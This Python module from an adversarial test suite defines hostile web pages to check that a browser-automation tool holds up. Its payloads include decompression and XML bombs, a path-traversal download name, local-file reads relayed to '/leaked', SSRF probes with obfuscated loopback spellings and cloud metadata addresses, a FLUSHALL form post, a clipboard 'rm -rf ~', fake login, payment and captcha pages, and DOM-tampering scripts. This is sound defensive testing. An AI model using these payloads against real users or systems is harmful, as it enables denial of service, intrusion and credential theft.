"""The attacks themselves: one list of pages for each kind."""

import json
import struct
import zlib
from collections.abc import Iterator
from functools import cache
from typing import Any

from tests.adversary.hostile import Hostile
from tests.adversary.server import Answer, Handler, Line, Reply, Request, Talk, write_head
from tests.adversary.wire import accept_key, bomb_gzip, bomb_zstd, frame, make_wav
from tests.adversary.words import name_marker, tell, write_page

PLAIN, SCRIPT, STYLE, BINARY = "text/plain; charset=utf-8", "text/javascript", "text/css", "application/octet-stream"
MIB = 2**20
BOMB_MIB = 512
PAGE_MIB = 100
TAKEN = 80 * MIB  # at most of one page: what the settings allow of one answer, and its parts
NAVIGATIONS = 60  # at most of one visit: browsers follow 20 redirects, and a visit may try several times
REQUESTS = 3_000  # at most of one visit
ENDLESS = 100_000  # pieces of what does not end while anybody waits for it
STRANGE_HOSTS = 2_000
PAGE_S = 0.01


def page(name: str, script: str = "", body: str = "", head: str = "") -> Reply:
    """A page with the marker of its attack."""
    marker = name_marker(f"hostile {name}")
    code = f"<script>{script}</script>" if script else ""
    return Reply(write_page(f"Hostile {name}", f"<p>{marker} {tell(name, 3)}</p>{body}{code}", head))


def one(name: str, limit: str, script: str = "", body: str = "", **rest: Any) -> Hostile:
    """An attack of one page and what it asks for: `routes` besides `/`."""
    routes: dict[str, Answer | Handler] = {"/": page(name, script, body), **rest.pop("routes", {})}
    return Hostile(name, limit, routes, **rest)


def list_hostile(canary: int) -> list[Hostile]:
    """Every attack; those that lead to the canary know its port."""
    return [
        *_list_navigations(),
        *_list_files(),
        *_list_windows(),
        *_list_loads(),
        *_list_bodies(),
        *_list_addresses(canary),
        *_list_inputs(),
        *_list_tampering(),
    ]


def _list_navigations() -> list[Hostile]:
    def count_on(write):
        def answer(request: Request, memory: dict[str, Any]) -> Answer:
            step = int(request.query.get("n", "0")) + 1
            return write(f"/next?n={step}")

        return answer

    marker = {
        name: name_marker(f"hostile {name}") for name in ("redirects-endless", "refresh-endless", "refresh-header")
    }
    by_header = count_on(lambda target: Reply(status=302, headers=(("Location", target),)))
    by_refresh = count_on(
        lambda target: Reply(
            write_page(
                "On", f"<p>{marker['refresh-endless']}", f'<meta http-equiv="refresh" content="0; url={target}">'
            )
        )
    )
    by_line = count_on(
        lambda target: Reply(marker["refresh-header"].encode(), PLAIN, headers=(("Refresh", f"0; url={target}"),))
    )
    bounded = {"most": {"/": NAVIGATIONS}}
    return [
        Hostile("redirects-endless", "navigations", {"*": by_header}, stands=False, **bounded),
        Hostile("refresh-endless", "navigations", {"*": by_refresh}, stands=False, **bounded),
        Hostile("refresh-header", "navigations", {"*": by_line}, stands=False, **bounded),
        Hostile(
            "redirect-loop",
            "navigations",
            {
                "/": Reply(status=302, headers=(("Location", "/back"),)),
                "/back": Reply(status=302, headers=(("Location", "/"),)),
            },
            stands=False,
            **bounded,
        ),
        Hostile(
            "script-navigation",
            "navigations",
            {"*": page("script-navigation", "location.href = '/on?' + Math.random()")},
            stands=False,
            **bounded,
        ),
        one(
            "history-flood",
            "navigations",
            "for (let n = 0; n < 1e5; n++) history.pushState({}, '', '/at/' + n)",
            most={"/at/": 2},
        ),
        one("hash-flood", "time", "setInterval(() => { location.hash = Math.random() }, 0)"),
        one("reload", "navigations", "location.reload()", stands=False, **bounded),
        one(
            "schemes",
            "schemes",
            "const places = ['mailto:a@example.org', 'tel:+1', 'own-app://run', 'ms-settings:',"
            " 'intent://x#Intent;end',"
            "'view-source:http://example.org', 'chrome://settings', 'chrome://crash', 'about:crash',"
            " 'ftp://127.0.0.1/',"
            "'filesystem:http://example.org/temporary/a', 'devtools://devtools/bundled/inspector.html'];"
            "for (const place of places) { const at = document.createElement('iframe'); at.src = place;"
            " document.body.append(at); const link = document.createElement('a'); link.href = place;"
            " document.body.append(link); link.click(); try { open(place) } catch (error) {} }",
        ),
        one(
            "script-addresses",
            "time",
            "for (let n = 0; n < 50; n++) { const at = document.createElement('iframe');"
            " at.src = 'javascript:parent.count = (parent.count || 0) + 1; while (parent.count < 1e9) parent.count++';"
            " document.body.append(at) }",
        ),
    ]


def _list_files() -> list[Hostile]:
    attached = (("Content-Disposition", 'attachment; filename="invoice.exe"'),)
    climbing = (("Content-Disposition", 'attachment; filename="../../../../home/user/.bashrc"'),)
    program = b"MZ" + bytes(5000)
    click = (
        "const at = document.createElement('a'); at.href = {}; at.download = {}; document.body.append(at); at.click();"
    )
    return [
        Hostile("download", "downloads", {"/": Reply(program, BINARY, headers=attached)}, stands=False),
        Hostile("download-name", "downloads", {"/": Reply(program, BINARY, headers=climbing)}, stands=False),
        one(
            "download-storm",
            "downloads",
            "for (let n = 0; n < 50; n++) {" + click.format("'/file?' + n", "'file' + n") + "}",
            routes={"/file": Reply(program, BINARY, headers=attached)},
        ),
        one(
            "download-blob",
            "downloads",
            "for (let n = 0; n < 20; n++) {"
            + click.format("URL.createObjectURL(new Blob(['x'.repeat(1e6)]))", "'blob' + n + '.sh'")
            + "}",
        ),
        one(
            "download-frame",
            "downloads",
            body='<iframe src="/file"></iframe>' * 20,
            routes={"/file": Reply(program, BINARY, headers=attached)},
        ),
        Hostile("pdf", "downloads", {"/": Reply(_write_pdf(), "application/pdf")}, stands=False),
        one(
            "pdf-frame",
            "downloads",
            body='<embed src="/a.pdf" type="application/pdf">',
            routes={"/a.pdf": Reply(_write_pdf(), "application/pdf")},
        ),
        one(
            "local-files",
            "schemes",
            "for (const place of ['file:///etc/passwd', 'file:///', 'file://localhost/etc/hostname']) {"
            " fetch(place).then(answer => answer.text()).then(text => fetch('/leaked?' +"
            " encodeURIComponent(text)), () => {});"
            " for (const [tag, name] of [['iframe', 'src'], ['img', 'src'], ['script', 'src'], ['object', 'data']]) {"
            "  const at = document.createElement(tag); at[name] = place; document.body.append(at);"
            "  at.onload = () => { try { if (at.contentDocument?.body?.innerText) fetch('/leaked') } catch"
            " (error) {} } }"
            " try { open(place) } catch (error) {} }",
            never=("/leaked",),
        ),
        one(
            "disk",
            "disk",
            "(async () => { const big = 'x'.repeat(4e6); for (let n = 0; n < 500; n++) {"
            " await (await caches.open('c')).put('/kept' + n, new Response(big));"
            " try { localStorage.setItem('k' + n, big) } catch (error) {} } })();"
            "const ask = indexedDB.open('d'); ask.onupgradeneeded = () => ask.result.createObjectStore('s');"
            "ask.onsuccess = () => { for (let n = 0; n < 500; n++)"
            " ask.result.transaction('s', 'readwrite').objectStore('s').put('x'.repeat(4e6), n) }",
            secure=True,
        ),
    ]


def _write_pdf() -> bytes:
    """One empty page that would open an address and run a script."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('x'\\))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/URI/URI(http://127.0.0.1/)>>>>>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _list_windows() -> list[Hostile]:
    return [
        one("dialogs", "dialogs", "for (let n = 0; n < 200; n++) { alert(n); confirm(n); prompt(n) }"),
        one("dialogs-late", "dialogs", "setInterval(() => alert('late'), 50)"),
        one(
            "beforeunload",
            "dialogs",
            "addEventListener('beforeunload', event => { event.preventDefault(); event.returnValue = 'stay' })",
        ),
        one(
            "unload-busy",
            "time",
            "for (const name of ['pagehide', 'unload', 'visibilitychange']) addEventListener(name, () => { for"
            " (;;); })",
        ),
        one("print", "dialogs", "setInterval(() => print(), 20)"),
        one(
            "popups",
            "popups",
            "const storm = () => { for (let n = 0; n < 100; n++) open('/popup?' + n, '_blank', 'width=100') };"
            " storm(); onclick = storm",
            routes={"/popup": page("popup", "open('/popup?' + Math.random())")},
            most={"/popup": 20},
        ),
        one(
            "popups-links",
            "popups",
            "for (let n = 0; n < 100; n++) { const at = document.createElement('a'); at.target = '_blank';"
            " at.rel = 'noopener'; at.href = '/popup?' + n; document.body.append(at); at.click() }",
            routes={"/popup": page("popup")},
            most={"/popup": 20},
        ),
        one(
            "fullscreen",
            "permissions",
            "setInterval(() => { document.body.requestFullscreen().then(() => fetch('/granted'), () => {});"
            " document.body.requestPointerLock() }, 100)",
            never=("/granted",),
        ),
        one(
            "permissions",
            "permissions",
            "const tell = () => fetch('/granted'); const no = () => {};"
            "Notification.requestPermission().then(it => { if (it === 'granted') tell() });"
            "navigator.geolocation.getCurrentPosition(tell, no);"
            "navigator.mediaDevices.getUserMedia({audio: true, video: true}).then(tell, no);"
            "navigator.requestMIDIAccess?.({sysex: true}).then(tell, no);"
            "navigator.clipboard.readText().then(tell, no)",
            never=("/granted",),
            secure=True,
        ),
        one(
            "clipboard",
            "permissions",
            "document.oncopy = document.onpaste = () => fetch('/granted');"
            "navigator.clipboard.writeText('rm -rf ~').then(() => fetch('/granted'), () => {});"
            " document.execCommand('paste')",
            never=("/granted",),
            secure=True,
        ),
    ]


def _list_loads() -> list[Hostile]:
    worker = "new Worker(URL.createObjectURL(new Blob(['for (;;);'])))"
    laughs = "".join(f'<g id="g{n}">' + f'<use href="#g{n - 1}"/>' * 10 + "</g>" for n in range(1, 10))
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg"><defs><rect id="g0" width="1" height="1"/>{laughs}</defs><use'
        f' href="#g9"/></svg>'
    )
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    xml = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e0 "lol">{entities}]><r>&e9;</r>'

    def frame_on(request: Request, _: dict[str, Any]) -> Answer:
        return page("frames", body=f'<iframe src="/frame?n={int(request.query.get("n", 0)) + 1}"></iframe>')

    def style_on(request: Request, _: dict[str, Any]) -> Answer:
        return Reply(f"@import '/style?n={int(request.query.get('n', 0)) + 1}';".encode(), STYLE)

    return [
        one("loop", "time", "setTimeout(() => { for (;;); }, 300)"),
        one("loop-at-once", "time", "for (;;);", stands=False),
        one("loop-promises", "time", "setTimeout(() => { const on = () => Promise.resolve().then(on); on() }, 300)"),
        one(
            "loop-timers",
            "time",
            "const on = () => { const end = Date.now() + 40; while (Date.now() < end); setTimeout(on) }; on()",
        ),
        one("workers", "time", f"for (let n = 0; n < 64; n++) {worker}"),
        one(
            "memory",
            "memory",
            "window.kept = []; setInterval(() => { if (kept.length < 400) kept.push(new"
            " Uint8Array(1.6e7).fill(7)) }, 5)",
        ),
        one(
            "memory-text",
            "memory",
            "let text = 'x'.repeat(2 ** 20); window.kept = []; setInterval(() => { if (kept.length < 4000)"
            " kept.push((text + kept.length).split('').join('')) }, 5)",
        ),
        one(
            "memory-pictures",
            "memory",
            "window.kept = []; setInterval(() => { if (kept.length < 60) { const at = new OffscreenCanvas(8000,"
            " 8000); at.getContext('2d').fillRect(0, 0, 8000, 8000); kept.push(at) } }, 5)",
        ),
        one("nodes", "memory", "for (let n = 0; n < 1e6; n++) document.body.append(document.createElement('i'))"),
        one(
            "nodes-endless",
            "memory",
            "setInterval(() => { for (let n = 0; n < 2e4 && document.body.childNodes.length < 2e7; n++)"
            " document.body.append('word ') }, 1)",
        ),
        one("tall", "memory", "document.body.style.height = '30000000px'"),
        one(
            "frames-deep",
            "requests",
            body='<iframe src="/frame"></iframe>',
            routes={"/frame": frame_on},
            most={"/frame": REQUESTS},
        ),
        one(
            "frames-many",
            "requests",
            "for (let n = 0; n < 5000; n++) { const at = document.createElement('iframe'); at.src = '/frame?' +"
            " n; document.body.append(at) }",
            routes={"/frame": page("frame")},
            most={"/frame": REQUESTS},
        ),
        one(
            "fetch-flood",
            "requests",
            "setInterval(() => { for (let n = 0; n < 200; n++) fetch('/flood?' + Math.random()) }, 5)",
            routes={"/flood": Reply(b"x", PLAIN)},
            most={"/flood": REQUESTS},
        ),
        one(
            "hosts-flood",
            "requests",
            f"for (let n = 0; n < {STRANGE_HOSTS}; n++) fetch(location.protocol + '//h' + n + '.test:' +"
            f" location.port + '/', {{mode: 'no-cors'}}).catch(() => {{}})",
        ),
        one(
            "styles-endless",
            "requests",
            body='<link rel="stylesheet" href="/style">',
            routes={"/style": style_on},
            most={"/style": REQUESTS},
        ),
        one("svg-bomb", "time", body='<img src="/a.svg">', routes={"/a.svg": Reply(svg.encode(), "image/svg+xml")}),
        Hostile("xml-bomb", "memory", {"/": Reply(xml.encode(), "application/xml")}, stands=False),
        one(
            "socket-flood",
            "bytes",
            "new WebSocket('ws://' + location.host + '/line')",
            routes={"/line": Talk(_flood_socket)},
            most_bytes=TAKEN,
        ),
        one(
            "console-flood",
            "bytes",
            "setInterval(() => { for (let n = 0; n < 1000; n++) console.log('x'.repeat(1000), n) }, 5)",
        ),
    ]


def _flood_socket(line: Line, request: Request) -> None:
    """Greet a WebSocket and never stop talking."""
    headers = (
        ("Upgrade", "websocket"),
        ("Connection", "Upgrade"),
        ("Sec-WebSocket-Accept", accept_key(request.header("Sec-WebSocket-Key"))),
    )
    line.sent.status, line.sent.headers = 101, headers
    line.send(write_head(101, headers))
    message = frame(b"x" * 60_000)
    for _ in range(ENDLESS):
        if not line.wait(0):
            return
        line.send(message)
        line.sent.wire_bytes += len(message)


def _list_bodies() -> list[Hostile]:
    @cache
    def burst() -> bytes:
        return bomb_gzip(BOMB_MIB)

    gzipped = ("Content-Encoding", "gzip")
    begin = page("page-huge").body.removesuffix(b"</body></html>\n")

    def fill(count: int, start: bytes = begin) -> Iterator[bytes]:
        yield start
        for number in range(count):
            yield f"<p>{number} {tell(f'huge {number % 50}', 20)}</p>\n".encode() * 40

    def drip(name: str) -> Iterator[bytes]:
        for byte in page(name).body + b"<p>and on</p>" * ENDLESS:
            yield bytes((byte,))

    def loop_head(line: Line, request: Request) -> None:
        line.send(b"HTTP/1.1 200 OK\r\n")
        for number in range(ENDLESS):
            if not line.wait(1.0):
                return
            line.send(f"X-Slow-{number}: 1\r\n".encode())

    many = tuple((f"X-Many-{number}", "x" * 100) for number in range(3_000))
    cookies = tuple(("Set-Cookie", f"c{number}={'x' * 4000}; Path=/") for number in range(150))
    long_line = (("X-Long", "x" * 2_000_000),)
    wav = make_wav(1)
    return [
        Hostile(
            "page-huge",
            "bytes",
            {"/": Reply(pieces=lambda: fill(PAGE_MIB * 20), framing="chunked")},
            most_bytes=TAKEN,
            stands=False,
        ),
        Hostile(
            "page-endless",
            "bytes",
            {"/": Reply(pieces=lambda: fill(ENDLESS), framing="close", pause_s=PAGE_S)},
            most_bytes=TAKEN,
            stands=False,
        ),
        Hostile(
            "page-drip",
            "time",
            {"/": Reply(pieces=lambda: drip("page-drip"), framing="close", pause_s=0.5)},
            stands=False,
        ),
        Hostile("head-drip", "time", {"/": Talk(loop_head)}, stands=False),
        Hostile("silence", "time", {"/": Talk(lambda line, request: line.hang(600))}, stands=False),
        Hostile("head-long", "headers", {"/": Reply(b"x", PLAIN, headers=long_line)}, stands=False),
        Hostile("head-many", "headers", {"/": Reply(b"x", PLAIN, headers=many)}, stands=False),
        one(
            "cookies",
            "headers",
            "fetch('/next')",
            routes={"/": Reply(page("cookies", "fetch('/next')").body, headers=cookies), "/next": Reply(b"x", PLAIN)},
            stands=False,
        ),
        Hostile("bomb-gzip", "bytes", {"/": lambda request, _: Reply(burst(), headers=(gzipped,))}, stands=False),
        Hostile(
            "bomb-zstd",
            "bytes",
            {"/": Reply(bomb_zstd(BOMB_MIB), headers=(("Content-Encoding", "zstd"),))},
            stands=False,
            secure=True,
        ),
        one(
            "bomb-script",
            "bytes",
            body='<script src="/a.js"></script>',
            routes={"/a.js": lambda request, _: Reply(burst(), SCRIPT, headers=(gzipped,))},
        ),
        one(
            "bomb-fetch",
            "bytes",
            "fetch('/a').then(answer => answer.text()).then(text => { window.kept = text })",
            routes={"/a": lambda request, _: Reply(burst(), PLAIN, headers=(gzipped,))},
        ),
        one(
            "bomb-picture",
            "memory",
            body='<img src="/a.png">',
            routes={"/a.png": Reply(_write_vast_png(20_000), "image/png")},
        ),
        one(
            "stream-parts",
            "bytes",
            body='<img src="/a"><video src="/b" autoplay></video>',
            routes={
                "/a": Reply(pieces=lambda: fill(ENDLESS, b"GIF89a"), kind="image/gif", framing="close"),
                "/b": Reply(pieces=lambda: fill(ENDLESS, b""), kind="video/mp4", framing="close"),
            },
            most_bytes=TAKEN,
        ),
        one(
            "media",
            "time",
            body='<audio src="/a.wav" autoplay loop></audio><video src="/a.wav" autoplay loop></video>',
            routes={"/a.wav": Reply(wav, "audio/wav", ranges=True)},
        ),
        Hostile("binary", "time", {"/": Reply(bytes(range(256)) * 4000)}, stands=False),
    ]


def _write_vast_png(side: int) -> bytes:
    """A picture of side by side px in one colour, of one bit each: small until it is drawn."""
    row = b"\x00" + bytes((side + 7) // 8)
    squeeze = zlib.compressobj(9)
    data = b"".join([*(squeeze.compress(row) for _ in range(side)), squeeze.flush()])
    parts = ((b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)), (b"IDAT", data), (b"IEND", b""))
    chunks = (
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _list_addresses(port: int) -> list[Hostile]:
    spellings = [
        *(
            "127.0.0.1",
            "127.0.0.9",
            "localhost",
            "canary.localhost",
            "2130706433",
            "0x7f.1",
            "0177.0.0.1",
            "127.1",
            "0.0.0.0",
            "0",
        ),
        *("[::1]", "[::ffff:127.0.0.1]", "[::]", "127.0.0.1.", "%31%32%37.0.0.1", "①②⑦.0.0.1", "inner.test"),
    ]
    networks = ["10.0.0.1", "192.168.0.1", "169.254.169.254", "10.255.255.254"]
    places = json.dumps([f"http://{host}:{port}" for host in spellings])
    wide = json.dumps([f"http://{host}:{port}" for host in networks])
    at = f"http://127.0.0.1:{port}"
    every = (
        "for (const place of {}) {{ fetch(place + '/fetch', {{mode: 'no-cors'}}).catch(() => {{}});"
        " for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['object', 'data']])"
        " {{ const at = document.createElement(tag); try {{ at[name] = place + '/' + tag }} catch (error) {{}};"
        " document.body.append(at) }} }}"
    )
    stun = (
        f"const link = new RTCPeerConnection({{iceServers: [{{urls: ['stun:127.0.0.1:{port}',"
        f" 'turn:127.0.0.1:{port}?transport=tcp'],"
        " username: 'a', credential: 'b'}]}); link.createDataChannel('x');"
        "link.onicecandidate = event => { if (/ (10|192\\.168|172\\.(1[6-9]|2\\d|3[01]))\\.\\d+\\.\\d+/"
        ".test(event.candidate?.candidate || ''))"
        " fetch('/leaked') }; link.createOffer().then(it => link.setLocalDescription(it))"
    )
    hints = "".join(
        f'<link rel="{kind}" href="{at}/{kind}">'
        for kind in ("preconnect", "prefetch", "prerender", "preload", "stylesheet", "manifest", "icon")
    )
    away = Reply(status=307, headers=(("Location", f"{at}/redirected"),))
    socket = (
        f"for (const kind of ['ws', 'http']) {{ try {{ new WebSocket(kind + '://127.0.0.1:{port}/socket') }} catch"
        f" (error) {{}} }} new EventSource('{at}/events')"
    )
    worker = (
        f"new Worker(URL.createObjectURL(new Blob([\"fetch('{at}/worker', {{mode: 'no-cors'}});"
        f" importScripts('{at}/part')\"])))"
    )
    form = f'<form method="post" action="{at}/form" enctype="text/plain"><input name="x" value="FLUSHALL"></form>'
    named = (
        "let turn = 0; setInterval(() => fetch(`http://inside${turn}.test:%d/turn?${turn++}`, {mode:"
        " 'no-cors'}).catch(() => {}), 300)"
    )
    return [
        one("private-spellings", "addresses", every.format(places)),
        one("private-networks", "addresses", every.format(wide)),
        one(
            "private-redirect",
            "addresses",
            "fetch('/away', {mode: 'no-cors'}).catch(() => {})",
            '<img src="/away"><iframe src="/away"></iframe>',
            routes={"/away": away},
        ),
        Hostile("private-landing", "addresses", {"/": away}, stands=False),
        one(
            "private-navigation", "addresses", f"setTimeout(() => {{ location = '{at}/navigated' }}, 200)", stands=False
        ),
        one("private-form", "addresses", "document.forms[0].submit()", form, stands=False),
        one("private-socket", "addresses", socket),
        one("private-webrtc", "addresses", stun, never=("/leaked",)),
        one(
            "private-beacon",
            "addresses",
            f"navigator.sendBeacon('{at}/beacon', 'x'); addEventListener('pagehide', () =>"
            f" navigator.sendBeacon('{at}/bye', 'x'))",
        ),
        one("private-worker", "addresses", worker),
        one("private-hints", "addresses", body=hints),
        one("private-popup", "addresses", f"open('{at}/popup'); onclick = () => open('{at}/clicked')"),
        one(
            "private-refresh",
            "addresses",
            body=f"<iframe srcdoc=\"<meta http-equiv=refresh content='0; url={at}/refreshed'>\"></iframe>",
        ),
        one("private-names", "addresses", named % port),
    ]


def _list_inputs() -> list[Hostile]:
    login = (
        '<h2>Log in to go on</h2><form method="post" action="/typed"><input name="user" autocomplete="username"'
        " autofocus>"
        '<input name="pass" type="password" autocomplete="current-password"><button>Log in</button></form>'
    )
    typed = (
        "for (const name of ['input', 'keydown', 'change', 'paste']) addEventListener(name, () => fetch('/typed'),"
        " true)"
    )
    captcha = (
        '<h2>Verify you are human</h2><div class="g-recaptcha" data-sitekey="none"><input type="checkbox" id="human"'
        ' onclick="fetch(\'/solved\')"><label for="human">I\'m not a robot</label></div>'
    )
    hold = (
        "<h2>Press and hold to confirm you are a human</h2><button onmousedown=\"fetch('/solved')\">Press and"
        " hold</button>"
    )
    puzzle = (
        '<h2>Type the letters in the picture</h2><form action="/solved"><input name="answer"><button>Go'
        " on</button></form>"
    )
    files = (
        '<input type="file" id="file" multiple><script>file.onchange = () => fetch("/uploaded", {method: "POST",'
        " body: file.files[0]}); setInterval(() => { file.click(); file.showPicker && file.showPicker() },"
        " 100)</script>"
    )
    pay = (
        '<h2>Pay 1 € to read on</h2><form method="post" action="/typed"><input name="cc-number"'
        ' autocomplete="cc-number"><button>Pay</button></form>'
    )
    return [
        one("login", "input", typed, login, never=("/typed",), says="login"),
        one("login-only", "input", typed, login.replace("to go on", ""), never=("/typed",), says="login"),
        one("payment", "input", typed, pay, never=("/typed",)),
        one("captcha", "challenge", "", captcha, never=("/solved",), says="challenge"),
        one("captcha-hold", "challenge", "", hold, never=("/solved",), says="challenge"),
        one(
            "captcha-letters",
            "challenge",
            typed.replace("/typed", "/solved"),
            puzzle,
            never=("/solved",),
            says="challenge",
        ),
        one("file-chooser", "input", "", files, never=("/uploaded",)),
        one("auth-dialog", "input", "", '<img src="/locked">', routes={"/locked": _answer_locked}, never=("/let-in",)),
    ]


def _answer_locked(request: Request, memory: dict[str, Any]) -> Answer:
    """Ask for a name and a word; whoever says any is noted as one who typed."""
    if request.header("Authorization"):
        return Reply(status=302, headers=(("Location", "/let-in"),))
    return Reply(b"locked", PLAIN, 401, (("WWW-Authenticate", 'Basic realm="x"'),))


def _list_tampering() -> list[Hostile]:
    prototypes = (
        "const bad = () => { throw new Error('broken') };"
        "JSON.stringify = JSON.parse = bad; Date.now = () => NaN; window.Date = function () { return {getTime: bad} };"
        "Function.prototype.toString = () => 'nothing'; Object.prototype.toString = bad; Array.prototype.map = bad;"
        "Array.prototype.push = () => 0; String.prototype.trim = bad; window.Promise = undefined; window.Map ="
        " undefined;"
        "Object.defineProperty(Object.prototype, 'toJSON', {get() { return bad }, configurable: true})"
    )
    documents = (
        "const lie = () => 'Nothing to see';"
        "for (const [it, name] of [[Element.prototype, 'innerHTML'], [Element.prototype, 'outerHTML'],"
        " [HTMLElement.prototype, 'innerText'], [Node.prototype, 'textContent']])"
        " Object.defineProperty(it, name, {get: lie, configurable: true});"
        "document.querySelector = document.querySelectorAll = document.createTreeWalker = () => null;"
        "XMLSerializer.prototype.serializeToString = lie; document.evaluate = () => null;"
        "Object.defineProperty(document, 'documentElement', {get: () => null});"
        "Object.defineProperty(document, 'title', {get: lie})"
    )
    watched = (
        "const wipe = () => { document.body.textContent = ''; for (;;); };"
        "const trap = new Image(); Object.defineProperty(trap, 'id', {get: wipe}); console.log('%c', trap);"
        "setInterval(() => { const began = performance.now(); debugger; if (performance.now() - began > 200)"
        " wipe() }, 100);"
        "setInterval(() => { if (outerWidth - innerWidth > 300) wipe() }, 100)"
    )
    worker = (
        "self.addEventListener('install', event => self.skipWaiting());"
        "self.addEventListener('activate', event => event.waitUntil(clients.claim()));"
        "self.addEventListener('fetch', event => event.respondWith(new Response('<p>Nothing was ever here</p>',"
        " {headers: {'Content-Type': 'text/html'}})))"
    )
    fetches = (
        "window.fetch = window.XMLHttpRequest = window.WebSocket = function () { throw 1 }; window.open = null;"
        " Object.freeze(window.performance)"
    )
    return [
        one("prototypes", "instrumentation", prototypes),
        one("documents", "instrumentation", documents),
        one("fetches", "instrumentation", fetches),
        one("debugger", "instrumentation", watched),
        one(
            "stop-loading", "instrumentation", "setInterval(() => stop(), 1); document.open = document.write = () => {}"
        ),
        one(
            "service-worker",
            "profile",
            "navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() =>"
            " fetch('/?again'))",
            routes={"/sw.js": Reply(worker.encode(), SCRIPT)},
            secure=True,
        ),
        one(
            "names",
            "instrumentation",
            "",
            '<form id="f"><input name="innerText"><input name="children"><input name="nodeType"><input'
            ' name="parentNode"></form><img name="body"><img name="documentElement"><iframe'
            ' name="Promise"></iframe><a id="Object"></a>',
        ),
    ]
